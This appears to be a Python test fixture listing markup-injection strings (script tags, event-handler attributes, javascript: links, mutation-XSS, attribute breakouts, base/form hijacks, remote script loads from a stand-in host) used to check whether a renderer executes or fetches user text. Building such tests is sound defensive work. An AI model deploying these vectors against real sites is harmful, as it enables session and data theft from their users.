"""Texts that would do something where they are taken for markup: each by the name of the mark that it would leave.

What runs sets ``window.ran_NAME``; what is fetched has ``elsewhere`` in its address. None has a line break or two
spaces in a row, so that it is the same text wherever it is shown.
"""

from __future__ import annotations

ELSEWHERE = "http://elsewhere.example"

PAYLOADS: dict[str, str] = {
    "script": f"<script>window.ran_script=1</script><script src={ELSEWHERE}/a.js></script>",
    "img": f'<img src=elsewhere-img onerror=window.ran_img=1><img srcset="{ELSEWHERE}/two.png 2x">',
    "svg": f"<svg onload=window.ran_svg=1><script>window.ran_svg=2</script><image href={ELSEWHERE}/s.png /></svg>",
    "iframe": f'<iframe srcdoc="<script>parent.ran_iframe=1</script>" src="{ELSEWHERE}/frame"></iframe>',
    "object": f"<object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/e><video src=elsewhere.mp4></video>",
    "link": "[press](javascript:window.ran_link=1) [two][r] <javascript:window.ran_link=2>",
    "anchor": '<a href="javascript:window.ran_anchor=1" autofocus onfocus=window.ran_anchor=2>press</a>',
    "image_md": f"![seen]({ELSEWHERE}/seen.png) [![seen]({ELSEWHERE}/inner.png)]({ELSEWHERE}/outer)",
    "bare_link": f"{ELSEWHERE}/bare www.elsewhere.example <{ELSEWHERE}/angle> a@elsewhere.example",
    "css": f"<style>@import url({ELSEWHERE}/i.css); body, #page-row {{ display: none }}</style>",
    "style": f'<div style="position:fixed;inset:0;width:4000px;background:url({ELSEWHERE}/b.png)">over all</div>',
    "closing": "</strong></mark></p></blockquote></details></div></section></main></body><h1>free</h1>",
    "attribute": '" onmouseover="window.ran_attribute=1" autofocus onfocus=\'window.ran_attribute=2\' \' x="',
    "template": "${window.ran_template=1} {{window.ran_template=2}} {%25 raw %25} {0} {name} %s {question}",
    "entities": "&lt;script&gt;window.ran_entities=1&lt;/script&gt; &#60;img src=elsewhere&#62; &amp;lt;",
    "form": f"<base href={ELSEWHERE}/><form action={ELSEWHERE}/f><button autofocus onfocus=window.ran_form=1>",
    "mutating": "<math><mtext><style><!--</style><img title='--><img src=x onerror=window.ran_mutating=1>'> ]]> <?x ?>",
    "formatting": "**bold** _it_ ~~gone~~ `code` ``` # h - item | a | b | $$\\href{javascript:alert(1)}{x}$$ \\(y\\)",
    "long_word": "Donaudampfschifffahrtsgesellschaft" * 20,
    "right_to_left": "שלום עולם, הנמל נפתח \u202eback to front\u202c مرحبا بالعالم",
}
